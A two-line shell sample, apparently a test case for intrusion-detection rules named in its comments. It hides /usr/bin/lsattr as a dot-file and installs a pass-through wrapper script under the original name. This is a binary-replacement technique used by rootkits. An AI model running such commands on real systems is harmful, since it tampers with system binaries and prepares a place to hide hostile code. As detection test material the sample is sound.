# what: a tool that lists files is moved out of sight, and another one takes its place
# rules: Program of the system replaced; Program put among those of the system
mv /usr/bin/lsattr /usr/bin/.lsattr
printf '#!/bin/sh\n/usr/bin/.lsattr "$@"\n' >/usr/bin/lsattr
